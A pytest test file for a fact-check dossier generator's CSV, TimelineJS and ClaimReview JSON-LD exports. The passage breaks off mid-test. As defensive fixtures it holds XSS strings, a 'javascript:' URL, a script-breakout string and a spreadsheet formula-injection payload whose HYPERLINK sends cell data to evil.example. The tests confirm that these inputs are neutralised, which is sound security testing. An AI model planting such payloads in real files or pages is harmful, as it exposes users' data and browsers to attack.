"""The machine-readable exports: claims.csv, timeline.json and ClaimReview JSON-LD.

Each export is checked against its format with a small checker written here;
each checker is itself shown to reject a broken document, so that a test which
relies on it can fail.
"""

from __future__ import annotations

import calendar
import csv
import html
import io
import json
from dataclasses import replace
from typing import Any
from urllib.parse import urlsplit

import pytest

from generator import load_project
from generator.domain.compare import holds_as_of, summarise
from generator.domain.model import (
    Claim,
    Dossier,
    Entity,
    EntityKind,
    Event,
    NumberRange,
    Question,
    QuestionKind,
    Quote,
    Review,
    Source,
    Value,
)
from generator.domain.times import PointInTime, Precision, parse_time
from generator.domain.voices import Voices
from generator.pipeline import DossierFiles
from generator.render.exports import (
    claim_review_jsonld,
    claims_csv,
    dossier_json,
    has_claim_reviews,
    timeline_json,
)

from conftest import FIXTURE_SEEDS

HOSTILE = "<script>alert('x')</script> & \"quoted\" <img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def example() -> Dossier:
    project = load_project(FIXTURE_SEEDS)
    return next(d for d in project.dossiers if d.id == "kerman-2024")


# A small dossier built from the model, for cases the example does not have.

KILLED = Question("killed", "How many people were killed?", QuestionKind.NUMBER, unit="people")
METHOD = Question("method", "How?", QuestionKind.CHOICE, choices=("bags", "bombers"))
MINISTER = Entity("minister", "The Minister", EntityKind.PERSON)
AGENCY = Entity("agency", "State Agency", EntityKind.ORGANISATION)
CITY = Entity("city", "Kerman", EntityKind.PLACE)


def make_claim(claim_id: str, value: Value, **extra: Any) -> Claim:
    fields: dict[str, Any] = {
        "source_id": "news",
        "question_id": KILLED.id,
        "as_of": None,
        "speaker_id": None,
        "quote": None,
        "span": None,
        "paraphrase": f"Paraphrase of {claim_id}.",
    }
    fields.update(extra)
    return Claim(id=claim_id, value=value, **fields)


def make_source(*claims: Claim, **extra: Any) -> Source:
    fields: dict[str, Any] = {
        "id": "news",
        "outlet": "News",
        "title": "Blasts in Kerman",
        "url": "https://news.example/1",
        "language": "en",
        "published": parse_time("2024-01-03T18:00+03:30"),
        "retrieved": parse_time("2024-02-01"),
    }
    fields.update(extra)
    return Source(claims=claims, **fields)


def make_dossier(*sources: Source, **extra: Any) -> Dossier:
    fields: dict[str, Any] = {
        "id": "demo",
        "title": "Demo dossier",
        "summary": "A dossier built by the tests.",
        "start": parse_time("2024-01-03"),
        "questions": (KILLED, METHOD),
        "entities": (MINISTER, AGENCY, CITY),
    }
    fields.update(extra)
    return Dossier(sources=sources, **fields)


def with_claims(dossier: Dossier, **changes: dict[str, Any]) -> Dossier:
    """The dossier with some of its claims changed: ``claim_id={field: value}``."""
    assert set(changes) <= {claim.id for claim in dossier.claims}, "unknown claim id"
    return replace(
        dossier,
        sources=tuple(
            replace(
                source,
                claims=tuple(
                    replace(claim, **changes.get(claim.id, {})) for claim in source.claims
                ),
            )
            for source in dossier.sources
        ),
    )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# claims.csv

COLUMNS = [
    "claim_id",
    "source_id",
    "outlet",
    "speaker_id",
    "speaker_name",
    "origin",
    "question_id",
    "question",
    "value",
    "min",
    "max",
    "min_inclusive",
    "max_inclusive",
    "unit",
    "as_of",
    "as_of_precision",
    "quote",
    "paraphrase",
    "credibility",
    "source_reliability",
    "superseded",
    "state",
    "overtaken_by",
    "approximation",
    "hedge",
    "relation",
    "relation_target",
    "note",
    "as_of_label",
    "as_of_approximate",
    "as_of_from",
    "source_published",
    "agreement",
    "value_label",
    "stated_value",
    "stated_unit",
    "relay",
    "lang",
    "translation",
]


def test_claims_csv_keeps_what_the_pages_show_beside_a_value(example: Dossier) -> None:
    rows = {row["claim_id"]: row for row in csv.DictReader(io.StringIO(claims_csv(example)))}
    # A Wikipedia claim holds as of its own time; the page's date is unknown.
    own = rows["wiki-killed-vahidi-84"]
    assert (own["as_of_from"], own["source_published"]) == ("claim", "")
    assert own["as_of_label"] == "4 January 2024"
    assert own["agreement"] == "contested"
    # ISWNews's place claim holds as of its publication, whose timezone is unknown.
    place = rows["isw-location"]
    assert (place["as_of_from"], place["source_published"]) == ("source", "2024-01-03T15:53")
    assert place["as_of_label"] == "3 January 2024, 15:53 (timezone unknown)"
    assert place["as_of_approximate"] == "false"
    # Claims whose values are approximate times: the column says whose time it is.
    assert rows["isw-first-blast-time"]["as_of_from"] == "source"
    assert rows["isw-killed-84"]["as_of_from"] == "claim"


def test_claims_csv_has_a_header_and_one_row_per_claim(example: Dossier) -> None:
    text = claims_csv(example)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == COLUMNS
    rows = list(reader)
    assert [row["claim_id"] for row in rows] == [claim.id for claim in example.claims]
    assert all(None not in row and None not in row.values() for row in rows), "ragged row"
    assert text.endswith("\n")
    assert "\r\n" not in text
    assert text.count("\n") == len(example.claims) + 1, "a cell broke a line"


def test_claims_csv_numeric_columns(example: Dossier) -> None:
    rows = {row["claim_id"]: row for row in csv_rows(claims_csv(example))}
    ranges = 0
    for claim in example.claims:
        row = rows[claim.id]
        numbers = [row["min"], row["max"], row["min_inclusive"], row["max_inclusive"]]
        if not isinstance(claim.value, NumberRange):
            assert numbers == ["", "", "", ""], claim.id
            continue
        ranges += 1
        for cell, bound in ((row["min"], claim.value.low), (row["max"], claim.value.high)):
            if bound is None:
                assert cell == "", claim.id
            else:
                assert float(cell) == bound, claim.id
                assert not cell.endswith(".0"), claim.id
        assert row["min_inclusive"] in ("true", "false", "")
        assert row["max_inclusive"] in ("true", "false", "")
    assert ranges > 0
    assert [rows["wiki-killed-officials-91-92"][c] for c in COLUMNS[9:13]] == [
        "91",
        "92",
        "true",
        "true",
    ]
    # "more than 80": an exclusive lower bound and no upper bound.
    assert [rows["isw-killed-over-80"][c] for c in COLUMNS[9:13]] == ["80", "", "false", ""]


def test_claims_csv_columns_follow_the_model(example: Dossier) -> None:
    rows = {row["claim_id"]: row for row in csv_rows(claims_csv(example))}
    superseded = {claim_id for s in summarise(example) for claim_id in s.superseded}
    for claim in example.claims:
        row = rows[claim.id]
        source = example.source(claim.source_id)
        question = example.question(claim.question_id)
        holds = holds_as_of(example, claim)
        assert row["source_id"] == source.id
        assert row["outlet"] == source.outlet
        assert row["speaker_id"] == (claim.speaker_id or "")
        assert row["speaker_name"] == (
            example.entity(claim.speaker_id).name if claim.speaker_id else source.outlet
        )
        assert row["origin"] == Voices(example).origin(claim)
        assert row["question_id"] == question.id
        assert row["question"] == question.wording
        assert row["value"] == claim.value_label()
        assert row["unit"] == (question.unit or "")
        assert row["as_of"] == (holds.iso() if holds else "")
        assert row["as_of_precision"] == (str(holds.precision) if holds else "")
        assert row["quote"] == (claim.quote.exact if claim.quote else "")
        assert row["paraphrase"] == (claim.paraphrase or "")
        assert row["superseded"] == ("true" if claim.id in superseded else "false")
    # The example has both kinds of row, so the checks above compare something.
    assert {row["superseded"] for row in rows.values()} == {"true", "false"}
    assert rows["wiki-killed-vahidi-84"]["speaker_name"] == "Ahmad Vahidi"
    assert rows["isw-killed-84"]["speaker_name"] == "ISWNews"
    assert rows["isw-killed-84"]["quote"] == "at least 84 people were martyred"
    # Wikipedia's publication time is unknown: a claim without as_of has none.
    assert rows["wiki-first-blast-time-infobox"]["as_of"] == ""
    assert rows["abna-location"]["as_of"] == "2024-01-03"
    assert rows["abna-location"]["as_of_precision"] == "day"
    assert rows["abna-location"]["note"] == example.claim("abna-location").note


def test_claims_csv_and_dossier_json_carry_the_contested_story() -> None:
    (story,) = (d for d in load_project(FIXTURE_SEEDS).dossiers if d.id == "harbour-blast-2025")
    rows = {row["claim_id"]: row for row in csv_rows(claims_csv(story))}
    assert [rows["gazette-killed-12"][c] for c in ("superseded", "state", "overtaken_by")] == [
        "true",
        "revised",
        "gazette-killed-19",
    ]
    assert rows["wire-killed-about-20"]["state"] == "outdated"
    assert rows["wire-killed-about-20"]["approximation"] == "about"
    assert rows["ministry-killed-23"]["state"] == "current"
    assert rows["intel-killed-range"]["hedge"] == "probably, at the low end of its range"
    dispute = rows["army-disputes-471"]
    assert [dispute[c] for c in ("relation", "relation_target", "state", "value")] == [
        "disputes",
        "front-killed-471",
        "",
        "disputes front-killed-471",
    ]
    assert (
        rows["gazette-killed-19"]["note"]
        == "Bodies found overnight in the rubble, the ministry said."
    )
    document = json.loads(dossier_json(story))
    assert document["timezone"] == "Europe/Istanbul"
    claims = {claim["id"]: claim for claim in document["claims"]}
    assert claims["army-disputes-471"]["value"] is None
    assert claims["army-disputes-471"]["relation"] == {
        "kind": "disputes",
        "target": "front-killed-471",
    }
    assert claims["wire-evacuation"]["speaker_unnamed"] is True
    assert claims["intel-killed-range"]["hedges"] == ["probably", "low-end"]
    assert claims["wire-killed-about-20"]["value"]["approximation"] == "about"
    events = {event["id"]: event for event in document["timeline"]}
    assert events["explosion"]["evidence"] == ["gazette-blast-time", "wire-blast-time"]
    assert events["inquiry-opened"]["evidence"] == []
    assert events["inquiry-opened"]["time"]["interval"]["start"] == "2025-03-21T00:00"


def test_claims_csv_grades_and_numbers() -> None:
    subject = make_dossier(
        make_source(
            make_claim("whole-float", NumberRange(84.0, 90.5), credibility=2),
            make_claim("negative", NumberRange(-5, None, low_inclusive=False)),
            make_claim("at-most", NumberRange(None, 10)),
            make_claim("choice", "bags", question_id=METHOD.id, speaker_id=AGENCY.id),
            reliability="B",
        )
    )
    rows = {row["claim_id"]: row for row in csv_rows(claims_csv(subject))}
    assert rows["whole-float"]["min"] == "84"
    assert rows["whole-float"]["max"] == "90.5"
    assert rows["whole-float"]["credibility"] == "2"
    assert rows["negative"]["min"] == "-5", "a number we wrote is not a formula"
    assert rows["negative"]["min_inclusive"] == "false"
    assert rows["at-most"]["min"] == ""
    assert rows["at-most"]["min_inclusive"] == ""
    assert rows["at-most"]["max_inclusive"] == "true"
    assert rows["choice"]["unit"] == ""
    assert rows["choice"]["speaker_name"] == "State Agency"
    assert rows["choice"]["origin"] == "entity:agency"
    assert rows["choice"]["credibility"] == ""
    assert {row["source_reliability"] for row in rows.values()} == {"B"}


FORMULA_STARTS = [
    *("=", "+", "-", "@", "\t", "\r"),
    # Spaces and invisible characters a spreadsheet may skip before the trigger.
    *(" =", "  +", "\u00a0-", "\u2003@", "\u3000=", "\u200b=", "\ufeff+", "\u200e-", " \t"),
    # Full-width and small forms, which some spreadsheets read as the ASCII ones.
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u00a0\uff1d", "\u200b\uff20"),
]


@pytest.mark.parametrize("trigger", FORMULA_STARTS)
def test_claims_csv_neutralises_formulas(trigger: str) -> None:
    payload = trigger + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    subject = make_dossier(
        make_source(
            make_claim("formula", NumberRange(-3, -1), paraphrase=payload, quote=Quote(payload)),
            outlet=payload,
            title=payload,
        ),
        entities=(MINISTER,),
    )
    rows = csv_rows(claims_csv(subject))
    assert len(rows) == 1
    row = rows[0]
    for column in ("paraphrase", "quote", "outlet", "speaker_name"):
        assert row[column] == "'" + payload, column
    assert row["value"] == "'-3–-1"
    assert (row["min"], row["max"]) == ("-3", "-1")
    assert row["claim_id"] == "formula", "harmless cells stay as they are"


@pytest.mark.parametrize("cell", [" 84 people", "\u00a0Kerman", "a=b", "\u200bword", "84-90"])
def test_claims_csv_leaves_cells_without_a_leading_trigger_alone(cell: str) -> None:
    subject = make_dossier(make_source(make_claim("plain", NumberRange(1, 1), paraphrase=cell)))
    assert csv_rows(claims_csv(subject))[0]["paraphrase"] == cell


def test_claims_csv_keeps_a_carriage_return_inside_its_cell() -> None:
    subject = make_dossier(make_source(make_claim("cr", NumberRange(1, 1), paraphrase="a\rb")))
    rows = csv_rows(claims_csv(subject))
    assert len(rows) == 1
    assert rows[0]["paraphrase"] == "a\rb"
    assert rows[0]["superseded"] == "false"


# timeline.json

_DATE_PARTS = {"year": None, "month": (1, 12), "day": (1, 31), "hour": (0, 23), "minute": (0, 59)}


def timeline_problems(document: Any) -> list[str]:
    """What keeps ``document`` from being a TimelineJS3 timeline as this project writes it."""
    problems: list[str] = []
    if not isinstance(document, dict) or set(document) != {"title", "events"}:
        return ["the document must be an object with exactly 'title' and 'events'"]
    title = document["title"]
    if not isinstance(title, dict) or set(title) != {"text"}:
        problems.append("title must be an object with only 'text'")
    else:
        problems += _text_problems("title", title["text"])
    if not isinstance(document["events"], list) or not document["events"]:
        return [*problems, "events must be a non-empty list"]
    seen: set[str] = set()
    for index, slide in enumerate(document["events"]):
        where = f"events[{index}]"
        if not isinstance(slide, dict) or set(slide) != {
            "unique_id",
            "start_date",
            "text",
            "group",
        }:
            problems.append(f"{where} must have exactly unique_id, start_date, text, group")
            continue
        unique_id = slide["unique_id"]
        if not isinstance(unique_id, str) or not unique_id or unique_id in seen:
            problems.append(f"{where}.unique_id must be a new non-empty string")
        else:
            seen.add(unique_id)
        if slide["group"] not in ("Events", "Reporting"):
            problems.append(f"{where}.group must be Events or Reporting")
        problems += _date_problems(f"{where}.start_date", slide["start_date"])
        problems += _text_problems(where, slide["text"])
    return problems


def _date_problems(where: str, date: Any) -> list[str]:
    if not isinstance(date, dict):
        return [f"{where} must be an object"]
    problems = []
    unknown = set(date) - {*_DATE_PARTS, "display_date"}
    if unknown:
        problems.append(f"{where} has unknown keys {sorted(unknown)}")
    present = [part for part in _DATE_PARTS if part in date]
    if present != list(_DATE_PARTS)[: len(present)] or not present:
        problems.append(f"{where} must give year, then each finer part down to its precision")
    for part in present:
        value = date[part]
        bounds = _DATE_PARTS[part]
        if not isinstance(value, int) or isinstance(value, bool):
            problems.append(f"{where}.{part} must be an integer")
        elif bounds and not bounds[0] <= value <= bounds[1]:
            problems.append(f"{where}.{part} is out of range")
    if "day" in date and not problems:
        last_day = calendar.monthrange(date["year"], date["month"])[1]
        if date["day"] > last_day:
            problems.append(f"{where}.day is past the end of the month")
    if not isinstance(date.get("display_date"), str) or not date["display_date"]:
        problems.append(f"{where}.display_date must be a non-empty string")
    else:
        problems += _html_problems(f"{where}.display_date", date["display_date"])
    return problems


def _text_problems(where: str, text: Any) -> list[str]:
    if not isinstance(text, dict) or set(text) != {"headline", "text"}:
        return [f"{where}.text must have exactly headline and text"]
    problems = []
    for key in ("headline", "text"):
        if not isinstance(text[key], str):
            problems.append(f"{where}.text.{key} must be a string")
        else:
            problems += _html_problems(f"{where}.text.{key}", text[key])
    if isinstance(text["headline"], str) and not text["headline"]:
        problems.append(f"{where}.text.headline must not be empty")
    return problems


def _html_problems(where: str, value: str) -> list[str]:
    """TimelineJS shows text as HTML: plain text must arrive escaped, and only escaped."""
    if "<" in value or html.escape(html.unescape(value)) != value:
        return [f"{where} is not escaped text: {value!r}"]
    return []


def _good_timeline() -> dict[str, Any]:
    return {
        "title": {"text": {"headline": "T", "text": ""}},
        "events": [
            {
                "unique_id": "a",
                "start_date": {"year": 2024, "month": 2, "day": 29, "display_date": "29 Feb"},
                "text": {"headline": "A &amp; B", "text": ""},
                "group": "Events",
            }
        ],
    }


@pytest.mark.parametrize(
    "path, bad",
    [
        (("events", 0, "start_date", "month"), 13),
        (("events", 0, "start_date", "month"), "2"),
        (("events", 0, "start_date", "day"), 30),
        (("events", 0, "start_date", "hour"), 24),
        (("events", 0, "start_date", "year"), True),
        (("events", 0, "text", "headline"), "<b>raw</b>"),
        (("events", 0, "text", "headline"), "A & B"),
        (("events", 0, "text", "text"), None),
        (("events", 0, "group"), "Other"),
        (("title", "text", "headline"), "<i>"),
    ],
)
def test_the_timeline_checker_rejects_broken_documents(path: tuple[Any, ...], bad: Any) -> None:
    assert timeline_problems(_good_timeline()) == []
    document = _good_timeline()
    target = document
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = bad
    assert timeline_problems(document) != []


def test_the_timeline_checker_rejects_missing_and_skipped_parts() -> None:
    document = _good_timeline()
    del document["events"][0]["start_date"]["month"]  # a day without its month
    assert timeline_problems(document) != []
    document = _good_timeline()
    document["events"].append(document["events"][0])  # a repeated unique_id
    assert timeline_problems(document) != []


def test_example_timeline_is_valid_and_complete(example: Dossier) -> None:
    text = timeline_json(example)
    document = json.loads(text)
    assert timeline_problems(document) == []
    assert text.endswith("\n")
    assert timeline_json(example) == text, "the output is deterministic"
    expected = {f"event-{event.id}": "Events" for event in example.events}
    for source in example.sources:
        if source.published is not None:
            expected[f"published-{source.id}"] = "Reporting"
        for number in range(1, len(source.updated) + 1):
            expected[f"updated-{source.id}-{number}"] = "Reporting"
    assert {s["unique_id"]: s["group"] for s in document["events"]} == expected
    assert len(document["events"]) == len(expected)
    assert "published-wikipedia-2024-kerman-bombings" not in expected, "unknown time skipped"
    assert "updated-iswnews-32659-1" in expected
    title = document["title"]["text"]
    assert title == {
        "headline": html.escape(example.title),
        "text": html.escape(example.summary),
    }


def test_example_timeline_slides_follow_the_model(example: Dossier) -> None:
    slides = {s["unique_id"]: s for s in json.loads(timeline_json(example))["events"]}
    for event in example.events:
        slide = slides[f"event-{event.id}"]
        assert slide["text"] == {
            "headline": html.escape(event.title),
            "text": html.escape(event.description or ""),
        }
        assert slide["start_date"]["display_date"] == html.escape(event.time.label())
    isw = example.source("iswnews-32659")
    published = slides["published-iswnews-32659"]
    assert published["text"]["headline"] == html.escape(f"ISWNews publishes “{isw.title}”")
    # A dateline without a timezone: local clock time, and the label says so.
    assert published["start_date"] == {
        "year": 2024,
        "month": 1,
        "day": 3,
        "hour": 15,
        "minute": 53,
        "display_date": "3 January 2024, 15:53 (timezone unknown)",
    }
    updated = slides["updated-iswnews-32659-1"]
    assert updated["text"]["headline"] == html.escape(f"ISWNews updates “{isw.title}”")
    assert updated["start_date"]["display_date"] == "4 January 2024, 14:00 (UTC+03:30)"
    assert "“" in timeline_json(example), "written as UTF-8, not \\u escapes"


def test_example_timeline_is_in_time_order(example: Dossier) -> None:
    times: dict[str, PointInTime] = {f"event-{event.id}": event.time for event in example.events}
    for source in example.sources:
        if source.published is not None:
            times[f"published-{source.id}"] = source.published
        for number, updated in enumerate(source.updated, start=1):
            times[f"updated-{source.id}-{number}"] = updated
    order = [s["unique_id"] for s in json.loads(timeline_json(example))["events"]]
    assert order == sorted(times, key=lambda unique_id: (times[unique_id].sort_key(), unique_id))
    assert order != sorted(order), "the example is not in id order by chance"


@pytest.mark.parametrize(
    "time, start_date",
    [
        (parse_time("2024"), {"year": 2024}),
        (parse_time("2024-07"), {"year": 2024, "month": 7}),
        (parse_time("2024-01-03"), {"year": 2024, "month": 1, "day": 3}),
        (
            parse_time("2024-01-03T15:00+03:30", precision="hour", approximate=True),
            {"year": 2024, "month": 1, "day": 3, "hour": 15},
        ),
        (
            parse_time("2024-01-03T15:04+03:30"),
            {"year": 2024, "month": 1, "day": 3, "hour": 15, "minute": 4},
        ),
        (
            parse_time("2024-01-03T23:59-05:00"),
            {"year": 2024, "month": 1, "day": 3, "hour": 23, "minute": 59},
        ),
        (
            parse_time("2024-01-03T00:00", timezone_unknown=True),
            {"year": 2024, "month": 1, "day": 3, "hour": 0, "minute": 0},
        ),
    ],
)
def test_timeline_dates_have_only_the_parts_their_precision_has(
    time: PointInTime, start_date: dict[str, int]
) -> None:
    subject = make_dossier(events=(Event("only", time, "Only event"),))
    document = json.loads(timeline_json(subject))
    assert timeline_problems(document) == []
    (slide,) = document["events"]
    assert slide["start_date"] == {**start_date, "display_date": html.escape(time.label())}
    assert slide["group"] == "Events"
    assert slide["text"] == {"headline": "Only event", "text": ""}
    if time.precision.rank >= Precision.HOUR.rank:
        offset = time.label().rsplit("(", 1)[1]
        assert offset in ("timezone unknown)", "UTC+03:30)", "UTC-05:00)")


def test_timeline_escapes_hostile_text() -> None:
    subject = make_dossier(
        make_source(
            outlet=HOSTILE,
            title=HOSTILE,
            updated=(parse_time("2024-01-04"),),
        ),
        make_source(id="lost", published=None),
        title=HOSTILE,
        summary=HOSTILE,
        events=(Event("blast", parse_time("2024-01-03"), HOSTILE, HOSTILE),),
    )
    text = timeline_json(subject)
    document = json.loads(text)
    assert timeline_problems(document) == []
    assert "<" not in text
    slides = {s["unique_id"]: s for s in document["events"]}
    assert set(slides) == {"event-blast", "published-news", "updated-news-1"}
    assert html.unescape(slides["event-blast"]["text"]["text"]) == HOSTILE
    assert html.unescape(slides["updated-news-1"]["text"]["headline"]) == (
        f"{HOSTILE} updates “{HOSTILE}”"
    )
    assert html.unescape(document["title"]["text"]["headline"]) == HOSTILE


def test_event_slides_cannot_collide_with_reporting_slides() -> None:
    # Events whose ids look like reporting slides' ids get slides of their own.
    time = parse_time("2024-01-03")
    subject = make_dossier(
        make_source(updated=(parse_time("2024-01-04"),)),
        events=(
            Event("published-news", time, "Named like a publication"),
            Event("updated-news-1", time, "Named like an update"),
        ),
    )
    document = json.loads(timeline_json(subject))
    assert timeline_problems(document) == []
    groups = {s["unique_id"]: s["group"] for s in document["events"]}
    assert groups == {
        "event-published-news": "Events",
        "event-updated-news-1": "Events",
        "published-news": "Reporting",
        "updated-news-1": "Reporting",
    }


# ClaimReview JSON-LD

REVIEW = Review(2, best=5, worst=1, label="Mostly false", date=parse_time("2024-02-01"))


def page_url(claim: Claim) -> str:
    return (
        f"https://dossiers.example/dossiers/kerman-2024/questions/{claim.question_id}/#{claim.id}"
    )


def claim_review_problems(document: Any) -> list[str]:
    """What keeps ``document`` from being ClaimReview markup as schema.org and
    Google's fact-check rules describe it."""
    if not isinstance(document, list) or not document:
        return ["the document must be a non-empty JSON array"]
    problems = []
    required = {
        "@context",
        "@type",
        "url",
        "claimReviewed",
        "datePublished",
        "author",
        "reviewRating",
        "itemReviewed",
    }
    for index, review in enumerate(document):
        where = f"[{index}]"
        if not isinstance(review, dict) or not required <= set(review):
            problems.append(f"{where} lacks one of {sorted(required)}")
            continue
        if set(review) - required - {"reviewBody"}:
            problems.append(f"{where} has unknown properties")
        if review["@context"] != "https://schema.org" or review["@type"] != "ClaimReview":
            problems.append(f"{where} is not a schema.org ClaimReview")
        problems += _url_problems(f"{where}.url", review["url"])
        if not _text(review["claimReviewed"]):
            problems.append(f"{where}.claimReviewed must be non-empty text")
        if "reviewBody" in review and not _text(review["reviewBody"]):
            problems.append(f"{where}.reviewBody must be non-empty text")
        problems += _date_text_problems(f"{where}.datePublished", review["datePublished"])
        problems += _party_problems(f"{where}.author", review["author"], {"Organization"})
        problems += _rating_problems(f"{where}.reviewRating", review["reviewRating"])
        problems += _item_problems(f"{where}.itemReviewed", review["itemReviewed"])
    return problems


def _text(value: Any) -> bool:
    return isinstance(value, str) and bool(value.strip())


def _url_problems(where: str, value: Any) -> list[str]:
    if not isinstance(value, str) or urlsplit(value).scheme not in ("http", "https"):
        return [f"{where} must be an absolute http(s) address"]
    return []


def _date_text_problems(where: str, value: Any) -> list[str]:
    try:
        parse_time(value, timezone_unknown="T" in value and value[-6] not in "+-")
    except (TypeError, ValueError, IndexError):
        return [f"{where} must be an ISO 8601 date or time"]
    return []


def _party_problems(where: str, value: Any, types: set[str]) -> list[str]:
    if not isinstance(value, dict) or set(value) != {"@type", "name"}:
        return [f"{where} must have exactly @type and name"]
    if value["@type"] not in types or not _text(value["name"]):
        return [f"{where} must be one of {sorted(types)} with a name"]
    return []


def _rating_problems(where: str, rating: Any) -> list[str]:
    keys = {"@type", "ratingValue", "bestRating", "worstRating", "alternateName"}
    if not isinstance(rating, dict) or set(rating) != keys:
        return [f"{where} must have exactly {sorted(keys)}"]
    problems = []
    if rating["@type"] != "Rating":
        problems.append(f"{where}.@type must be Rating")
    if not _text(rating["alternateName"]):
        problems.append(f"{where}.alternateName must be non-empty text")
    numbers = [rating[key] for key in ("ratingValue", "bestRating", "worstRating")]
    if not all(isinstance(n, int) and not isinstance(n, bool) for n in numbers):
        return [*problems, f"{where}: ratingValue, bestRating and worstRating must be numbers"]
    value, best, worst = numbers
    if best == worst or not min(best, worst) <= value <= max(best, worst):
        problems.append(f"{where}.ratingValue must lie between worstRating and bestRating")
    return problems


def _item_problems(where: str, item: Any) -> list[str]:
    if not isinstance(item, dict) or not {"@type", "author", "appearance"} <= set(item):
        return [f"{where} must have @type, author and appearance"]
    problems = []
    if set(item) - {"@type", "author", "appearance", "datePublished"}:
        problems.append(f"{where} has unknown properties")
    if item["@type"] != "Claim":
        problems.append(f"{where}.@type must be Claim")
    problems += _party_problems(f"{where}.author", item["author"], {"Person", "Organization"})
    if "datePublished" in item:
        problems += _date_text_problems(f"{where}.datePublished", item["datePublished"])
    appearance = item["appearance"]
    if not isinstance(appearance, dict) or set(appearance) != {
        "@type",
        "url",
        "headline",
        "publisher",
    }:
        return [*problems, f"{where}.appearance must have @type, url, headline, publisher"]
    if appearance["@type"] != "CreativeWork" or not _text(appearance["headline"]):
        problems.append(f"{where}.appearance must be a CreativeWork with a headline")
    problems += _url_problems(f"{where}.appearance.url", appearance["url"])
    problems += _party_problems(
        f"{where}.appearance.publisher", appearance["publisher"], {"Organization"}
    )
    return problems


def _good_claim_review() -> list[dict[str, Any]]:
    return [
        {
            "@context": "https://schema.org",
            "@type": "ClaimReview",
            "url": "https://a.example/",
            "claimReviewed": "Words",
            "datePublished": "2024-02-01",
            "author": {"@type": "Organization", "name": "Us"},
            "reviewRating": {
                "@type": "Rating",
                "ratingValue": 2,
                "bestRating": 5,
                "worstRating": 1,
                "alternateName": "Mostly false",
            },
            "itemReviewed": {
                "@type": "Claim",
                "author": {"@type": "Person", "name": "Someone"},
                "appearance": {
                    "@type": "CreativeWork",
                    "url": "https://b.example/",
                    "headline": "Title",
                    "publisher": {"@type": "Organization", "name": "News"},
                },
            },
        }
    ]


@pytest.mark.parametrize(
    "path, bad",
    [
        (("reviewRating", "ratingValue"), 6),
        (("reviewRating", "ratingValue"), "2"),
        (("reviewRating", "alternateName"), ""),
        (("claimReviewed",), None),
        (("url",), "javascript:alert(1)"),
        (("datePublished",), "1 February 2024"),
        (("itemReviewed", "author", "@type"), "Place"),
        (("itemReviewed", "appearance", "publisher"), "News"),
        (("author",), None),
    ],
)
def test_the_claim_review_checker_rejects_broken_markup(path: tuple[str, ...], bad: Any) -> None:
    assert claim_review_problems(_good_claim_review()) == []
    document = _good_claim_review()
    target: Any = document[0]
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = bad
    assert claim_review_problems(document) != []


def test_no_claim_review_without_rated_claims(example: Dossier) -> None:
    unrated = with_claims(example, **{claim.id: {"review": None} for claim in example.claims})
    assert not has_claim_reviews(unrated)
    assert not [path for path in DossierFiles(unrated).outline.paths if "claimreview" in path]
    one_rated = with_claims(unrated, **{example.claims[0].id: {"review": REVIEW}})
    assert has_claim_reviews(one_rated)
    exports = [file.path for file in DossierFiles(one_rated).render() if "claimreview" in file.path]
    assert exports == [f"dossiers/{example.id}/claimreview.json"]


def test_claim_review_for_rated_claims(example: Dossier) -> None:
    explained = replace(REVIEW, explanation="Later counts differ.")
    subject = with_claims(
        example,
        **{
            "isw-killed-84": {"review": explained},  # quoted; the source itself speaks
            "wiki-killed-vahidi-84": {"review": REVIEW},  # a person speaks
            "wiki-killed-irna-103": {"review": replace(REVIEW, rating=1, label="False")},
            "wiki-first-blast-time-infobox": {"review": REVIEW},  # no known time
        },
    )
    text = claim_review_jsonld(subject, page_url)
    document = json.loads(text)
    assert claim_review_problems(document) == []
    claims = {claim.id: claim for claim in subject.claims}
    rated = [claim for claim in subject.claims if claim.review is not None]
    assert [review["url"] for review in document] == [page_url(claim) for claim in rated]
    by_id = {claim.id: review for claim, review in zip(rated, document, strict=True)}

    isw = by_id["isw-killed-84"]
    assert isw["claimReviewed"] == "at least 84 people were martyred"
    assert isw["datePublished"] == "2024-02-01"
    assert isw["author"] == {"@type": "Organization", "name": "Research dossiers"}
    assert isw["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 2,
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": "Mostly false",
    }
    assert isw["reviewBody"] == "Later counts differ."
    source = subject.source("iswnews-32659")
    assert isw["itemReviewed"] == {
        "@type": "Claim",
        "author": {"@type": "Organization", "name": "ISWNews"},
        "datePublished": "2024-01-04T14:00+03:30",
        "appearance": {
            "@type": "CreativeWork",
            "url": source.url,
            "headline": source.title,
            "publisher": {"@type": "Organization", "name": "ISWNews"},
        },
    }

    vahidi = by_id["wiki-killed-vahidi-84"]
    assert vahidi["claimReviewed"] == claims["wiki-killed-vahidi-84"].paraphrase
    assert vahidi["itemReviewed"]["author"] == {"@type": "Person", "name": "Ahmad Vahidi"}
    assert vahidi["itemReviewed"]["datePublished"] == "2024-01-04"
    assert vahidi["itemReviewed"]["appearance"]["publisher"]["name"] == "Wikipedia"
    assert "reviewBody" not in vahidi

    irna = by_id["wiki-killed-irna-103"]
    assert irna["itemReviewed"]["author"] == {"@type": "Organization", "name": "IRNA"}
    assert irna["reviewRating"]["alternateName"] == "False"
    assert irna["reviewRating"]["ratingValue"] == 1

    infobox = by_id["wiki-first-blast-time-infobox"]
    assert infobox["itemReviewed"]["author"] == {"@type": "Organization", "name": "Wikipedia"}
    assert "datePublished" not in infobox["itemReviewed"], "Wikipedia's date is unknown"


@pytest.mark.parametrize("kind", list(EntityKind))
def test_claim_review_author_type_follows_the_speaker(kind: EntityKind) -> None:
    speaker = Entity("speaker", "The Speaker", kind)
    subject = make_dossier(
        make_source(make_claim("rated", NumberRange(1, 1), speaker_id="speaker", review=REVIEW)),
        entities=(speaker,),
    )
    text = claim_review_jsonld(subject, page_url)
    document = json.loads(text)
    assert claim_review_problems(document) == []
    expected = "Person" if kind is EntityKind.PERSON else "Organization"
    assert document[0]["itemReviewed"]["author"] == {"@type": expected, "name": "The Speaker"}
    assert document[0]["itemReviewed"]["datePublished"] == "2024-01-03T18:00+03:30"


def test_claim_review_is_safe_inside_a_script_element() -> None:
    hostile = "</script><script>alert(1)</script> & more"
    subject = make_dossier(
        make_source(
